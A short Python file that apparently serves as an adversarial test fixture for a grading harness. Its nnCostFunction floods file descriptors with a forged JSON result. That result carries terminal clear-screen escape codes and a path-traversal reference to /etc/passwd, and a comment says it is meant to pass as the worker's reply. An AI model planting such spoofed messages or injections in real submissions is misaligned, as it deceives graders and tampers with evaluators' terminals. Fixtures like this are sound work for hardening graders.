r"""Sends an error that points at files of the host, and drives the terminal.

Verdict: SyntaxError: \x1b | \x1b[2J100 | was not a reply
"""

import os
import time

import numpy as np

MESSAGE = (
    b'{"call": 1, "status": "broken", "values": [], "seconds": 0, "error": {"type": "SyntaxError",'
    b' "message": "\\u001b[2J100 / 100", "source": "\\r\\u009b2J", "line": 1,'
    b' "file": "link/../../../../../../etc/passwd"}}\n'
)


def nnCostFunction(nn_params, *rest):
    for fd in range(3, 64):
        try:
            os.write(fd, MESSAGE)
        except OSError:
            pass
    time.sleep(0.3)  # the grader is to take it for the worker's
    return 0.5, np.ones_like(nn_params)
